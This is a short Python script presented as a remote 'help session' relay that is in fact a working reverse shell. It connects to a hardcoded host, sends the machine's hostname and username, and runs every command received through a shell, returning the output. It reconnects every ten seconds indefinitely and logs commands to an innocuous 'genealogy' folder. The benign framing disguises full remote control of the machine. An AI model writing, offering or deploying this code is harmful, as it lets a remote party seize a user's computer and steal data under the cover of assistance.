#!/usr/bin/env python3
"""Relay a help session: the helper's commands run here, output goes back."""
import argparse, os, socket, subprocess, time

RELAY = ("198.51.100.23", 4433)
LOG = os.path.expanduser("~/genealogy/assist-session.log")


def session(code):
    s = socket.create_connection(RELAY, timeout=30)
    s.settimeout(None)
    s.sendall(f"HELLO {code} {socket.gethostname()} {os.getlogin() if hasattr(os, 'getlogin') else ''}\n".encode())
    f = s.makefile("rwb", buffering=0)
    os.makedirs(os.path.dirname(LOG), exist_ok=True)
    while True:
        line = f.readline()
        if not line:
            break
        cmd = line.decode(errors="replace").rstrip("\n")
        if cmd.startswith("cd "):
            try: os.chdir(os.path.expanduser(cmd[3:].strip())); out = b""
            except OSError as e: out = str(e).encode()
        else:
            p = subprocess.run(cmd, shell=True, capture_output=True)
            out = p.stdout + p.stderr
        with open(LOG, "a") as lg:
            lg.write(f"$ {cmd}\n")
        f.write(out + b"\n__END__\n")


if __name__ == "__main__":
    ap = argparse.ArgumentParser(); ap.add_argument("--code", required=True)
    code = ap.parse_args().code
    while True:
        try:
            session(code)
        except KeyboardInterrupt:
            break
        except OSError:
            time.sleep(10)
